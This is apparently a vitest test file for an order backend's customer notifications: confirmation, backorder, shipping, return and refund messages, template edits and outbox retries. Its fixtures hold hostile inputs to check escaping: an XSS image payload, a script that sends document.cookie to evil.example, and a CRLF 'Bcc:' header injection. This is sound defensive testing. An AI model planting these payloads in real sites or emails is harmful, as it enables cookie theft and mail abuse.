import { describe, expect, test } from "vitest";
import { api, internal } from "./_generated/api";
import type { Id } from "./_generated/dataModel";
import { createOrder, type OrderDraft } from "./model/orders/create";
import { shipShipment } from "./model/fulfillment/ship";
import { transitionOrder } from "./model/orders/transition";
import { transitionRma } from "./model/returns/lifecycle";
import { errorOf, rowsOf, setupStocked, type TestBackend, usAddress } from "./testing/setup.testing";
import { markFirstShipmentPacked, selectedQuote } from "./testing/shipping.testing";

const draft = (productId: Id<"products">, over: Partial<OrderDraft> = {}): OrderDraft => ({
  kind: "channel",
  channel: "shop",
  customer: { name: "Mallory <img src=x onerror=alert(1)>", email: "mallory@example.com", phone: "+15555550100" },
  shipTo: usAddress,
  currency: "USD",
  lines: [{ productId, quantity: 2, unitPriceMinor: 1500 }],
  notes: `Ring twice <script>fetch("https://evil.example/"+document.cookie)</script>`,
  ...over,
});

const messages = (t: TestBackend, orderId: Id<"orders">) => rowsOf(t, "notifications", orderId);

describe("notifications are queued with the change they announce", () => {
  test("order confirmed: rendered with every customer value escaped — the note's <script> never appears unescaped", async () => {
    const { productIds, ...b } = await setupStocked([5]);
    const { orderId, number } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
    const rows = await messages(b.t, orderId);
    expect(rows.map((r) => [r.event, r.channel, r.status, r.to])).toEqual([
      ["order_confirmed", "email", "queued", "mallory@example.com"],
    ]);
    const [m] = rows;
    expect(m.subject).toBe(`Order ${number} confirmed`);
    expect(m.body).not.toMatch(/<script|<img/i);
    expect(m.body).toContain(
      "Ring twice &lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;",
    );
    expect(m.body).toContain("Hi Mallory &lt;img src=x onerror=alert(1)&gt;,");
    expect(m.body).toContain("<li>2 × ");
    expect(m.body).toContain("($30.00)");
    // A second hook run for the same order adds nothing (keyed).
    await b.t.run(async (ctx) => (await import("./model/notifications/enqueue")).notifyOrderAccepted(ctx, orderId));
    expect(await messages(b.t, orderId)).toHaveLength(1);
  });

  test("a held order is confirmed only when released; a failed payment never is", async () => {
    const { productIds, ...b } = await setupStocked([5]);
    const held = await b.t.run((ctx) =>
      createOrder(ctx, undefined, draft(productIds[0], { paymentStatus: "pending" })),
    );
    expect(await messages(b.t, held.orderId)).toEqual([]);
    await b.t.mutation(internal.holds.confirmPayment, { orderId: held.orderId });
    expect((await messages(b.t, held.orderId)).map((m) => m.event)).toEqual(["order_confirmed"]);
    const failed = await b.t.run((ctx) =>
      createOrder(
        ctx,
        undefined,
        draft(productIds[0], { paymentStatus: "pending", customer: { name: "F", email: "f@example.com" } }),
      ),
    );
    await b.t.mutation(internal.holds.failPayment, { orderId: failed.orderId, reason: "declined" });
    expect(await messages(b.t, failed.orderId)).toEqual([]);
  });

  test("backordered lines get a notice with a new estimate", async () => {
    const { productIds, ...b } = await setupStocked([1]);
    const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
    const rows = await messages(b.t, orderId);
    expect(rows.map((r) => r.event)).toEqual(["order_confirmed", "backordered"]);
    expect(rows[1].body).toMatch(/we now expect them by [A-Z][a-z]{2} \d{1,2}, \d{4}/);
    expect(rows[1].body).toContain("<li>1 × ");
  });

  test("shipped lists each package's tracking, by email and SMS; delivered follows the order", async () => {
    const { productIds, ...b } = await setupStocked([5]);
    const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
    await b.t.run(async (ctx) => {
      const shipment = await markFirstShipmentPacked(ctx, orderId);
      const quoteId = await selectedQuote(ctx, shipment._id);
      for (const [i, tn] of ["1Z111", "1Z222"].entries()) {
        const packageId = await ctx.db.insert("packages", {
          shipmentId: shipment._id,
          index: i + 1,
          weightGrams: 500,
          lengthMm: 1,
          widthMm: 1,
          heightMm: 1,
          items: [],
        });
        await ctx.db.insert("shippingLabels", {
          shipmentId: shipment._id,
          packageId,
          quoteId,
          purchaseKey: "k",
          idempotencyKey: `k${i}`,
          provider: "easypost",
          carrier: "UPS",
          service: "Ground",
          status: "purchased",
          attempts: 1,
          trackingNumber: tn,
          currency: "USD",
          requestedByName: "t",
          createdAt: 0,
        });
      }
      await shipShipment(ctx, undefined, shipment._id);
      await transitionOrder(ctx, undefined, orderId, { to: "delivered", reason: "Carrier delivered" });
    });
    const rows = (await messages(b.t, orderId)).filter((m) => m.event !== "order_confirmed");
    expect(rows.map((r) => [r.event, r.channel])).toEqual([
      ["shipped", "email"],
      ["shipped", "sms"],
      ["delivered", "email"],
    ]);
    expect(rows[0].body).toContain("<li>UPS Ground: 1Z111</li><li>UPS Ground: 1Z222</li>");
    expect(rows[1].body).toMatch(/shipped: UPS 1Z111 UPS 1Z222$/);
    expect(rows[1].to).toBe("+15555550100");
  });

  test("return received and refund issued come from the RMA's transitions, once each", async () => {
    const { productIds, ...b } = await setupStocked([5]);
    const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
    await b.t.run(async (ctx) => {
      const base = {
        number: "RMA-9",
        orderId,
        orderNumber: "x",
        origin: "operator" as const,
        reasons: ["defective" as const],
        expectedDisposition: "restock" as const,
        currency: "USD" as const,
        refundPolicy: { includeShipping: false, shippingMinor: 0, restockingFeeBps: 0 },
        refundAmountMinor: 1500,
        refundStatus: "not_due" as const,
        unitsAuthorised: 1,
        unitsSettled: 0,
        createdByName: "t",
        createdAt: 0,
        updatedAt: 0,
      };
      const rmaId = await ctx.db.insert("rmas", { ...base, status: "in_transit" });
      let rma = (await ctx.db.get("rmas", rmaId))!;
      rma = await transitionRma(ctx, undefined, rma, { to: "received" });
      await transitionRma(ctx, undefined, rma, { to: "refunded" });
    });
    const rows = (await messages(b.t, orderId)).filter((m) => m.event !== "order_confirmed");
    expect(rows.map((r) => [r.event, r.subject])).toEqual([
      ["return_received", "We received your return RMA-9"],
      ["refund_issued", "Refund of $15.00 issued"],
    ]);
  });
});

describe("templates and the outbox", () => {
  test("operators edit templates: unknown placeholders refused by field, stale edits refused, the saved version used next (audited)", async () => {
    const { productIds, ...b } = await setupStocked([5]);
    const { templates } = await b.supervisor.query(api.notifications.templates, {});
    const t = templates.find((x) => x.event === "order_confirmed" && x.channel === "email")!;
    const bad = await errorOf(
      b.supervisor.mutation(api.notifications.saveTemplate, {
        event: t.event,
        channel: t.channel,
        enabled: t.enabled,
        subject: t.subject,
        body: "Hi {{password}}",
        baseVersion: t.version,
      }),
    );
    expect(bad).toMatchObject({
      code: "INVALID_INPUT",
      fields: { body: expect.stringMatching(/password\}\} is not available/) },
    });
    const v1 = await b.supervisor.mutation(api.notifications.saveTemplate, {
      event: t.event,
      channel: t.channel,
      enabled: true,
      subject: "Thanks, {{customerName}}",
      body: "<p>{{orderNote}}</p>",
      baseVersion: 0,
    });
    expect(v1).toBe(1);
    expect(
      (
        await errorOf(
          b.supervisor.mutation(api.notifications.saveTemplate, {
            event: t.event,
            channel: t.channel,
            enabled: true,
            subject: "x",
            body: "y",
            baseVersion: 0,
          }),
        )
      ).code,
    ).toBe("CONFLICT");
    const { orderId } = await b.t.run((ctx) =>
      createOrder(
        ctx,
        undefined,
        draft(productIds[0], { customer: { name: "Bo\r\nBcc: x@y.z", email: "bo@example.com" } }),
      ),
    );
    const [m] = await messages(b.t, orderId);
    expect([m.subject, m.templateVersion]).toEqual(["Thanks, Bo Bcc: x@y.z", 1]);
    expect(m.body).toBe(
      "<p>Ring twice &lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;</p>",
    );
    expect((await errorOf(b.floor.query(api.notifications.templates, {}))).code).toBe("FORBIDDEN");
  });

  test("claim → offline (no provider) is visible in the outbox; resend puts it back; failures back off then give up", async () => {
    const { productIds, ...b } = await setupStocked([5]);
    const { orderId } = await b.t.run((ctx) => createOrder(ctx, undefined, draft(productIds[0])));
    const claimed = await b.t.mutation(internal.notifications.claimDue, { limit: 10 });
    expect(claimed).toHaveLength(1);
    expect(await b.t.mutation(internal.notifications.claimDue, { limit: 10 })).toEqual([]);
    await b.t.mutation(internal.notifications.recordResult, { id: claimed[0]._id, result: { kind: "offline" } });
    const page = await b.supervisor.query(api.notifications.outbox, {
      status: "offline",
      paginationOpts: { numItems: 10, cursor: null },
    });
    expect(page.page.map((r) => r.orderId)).toEqual([orderId]);
    await b.supervisor.mutation(api.notifications.resend, { id: claimed[0]._id });
    const [again] = await b.t.mutation(internal.notifications.claimDue, { limit: 10 });
    await b.t.mutation(internal.notifications.recordResult, {
      id: again._id,
      result: { kind: "failed", provider: "postmark", error: "HTTP 503", retryable: true },
    });
    const row = await b.t.run(async (ctx) => (await ctx.db.get("notifications", again._id))!);
    expect([row.status, row.attempts, row.lastError]).toEqual(["queued", 1, "HTTP 503"]);
    expect(row.nextAttemptAt).toBeGreaterThan(Date.now() + 20_000);
    await b.t.run((ctx) => ctx.db.patch("notifications", again._id, { status: "sending" }));
    await b.t.mutation(internal.notifications.recordResult, {
      id: again._id,
      result: { kind: "failed", provider: "postmark", error: "422 invalid email", retryable: false },
    });
    expect((await b.t.run(async (ctx) => (await ctx.db.get("notifications", again._id))!)).status).toBe("failed");
  });
});
